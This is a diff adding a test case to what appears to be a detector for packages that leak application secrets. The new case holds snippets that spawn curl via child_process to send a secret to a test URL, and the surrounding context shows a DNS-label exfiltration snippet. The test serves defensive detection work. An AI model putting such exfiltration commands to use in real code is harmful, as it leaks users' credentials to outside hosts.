@@ -115,6 +115,14 @@ describe('a package sends a secret that the application has handed it', () => {
     await assertSeen(fetched(`Buffer.from('x ' + seed)`), 'the body');
   });
 
+  it('by a program', async () => {
+    const run = (call: string) => ({
+      send: `const cp = require('node:child_process'); const child = cp.${call}; child.on('error', () => end()); child.on('exit', () => end());`,
+    });
+    await assertSeen(run(`spawn('curl', ['-s', '-d', seed, String(url('/'))])`), 'the command line');
+    await assertSeen(run(`exec('curl -s "' + url('/?ref=' + hex) + '"')`), 'the query ref');
+  });
+
   it('in the labels of a name', () =>
     assertSeen(
       { send: `require('node:dns').resolveTxt(hex.slice(0, 40) + '.0.labels.invalid', () => end());` },
